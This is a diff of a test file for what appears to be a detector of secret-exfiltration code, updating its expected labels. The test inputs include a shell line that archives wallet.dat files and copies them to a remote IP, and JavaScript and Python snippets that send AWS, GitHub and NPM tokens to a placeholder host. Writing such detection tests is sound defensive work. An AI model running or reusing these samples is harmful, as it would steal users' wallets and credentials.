@@ -159,15 +159,14 @@ test('files that are collected, packed and copied away, and the keys of several 
     "find ~ -name 'wallet.dat' -print0 |\n  tar czf /tmp/p.tgz -T -\nscp /tmp/p.tgz a@203.0.113.50:/in/",
     sent,
   );
-  const collected = ['exfiltration/send-private high'];
   check(
     'const { AWS_SECRET_KEY, GITHUB_TOKEN } = process.env;\nconst all = [AWS_SECRET_KEY, GITHUB_TOKEN].join();\nawait fetch("https://a.example", { method: "POST", body: btoa(all) });',
-    collected,
+    ['exfiltration/send-secret high', 'exfiltration/collect-secrets high'],
     'a.mjs',
   );
   check(
     'keys = [os.environ["AWS_KEY"], os.environ["GITHUB_TOKEN"], os.environ["NPM_TOKEN"]]\nrequests.post("https://a.example", json=keys)',
-    collected,
+    ['exfiltration/send-secret high'],
     'a.py',
   );
   check(
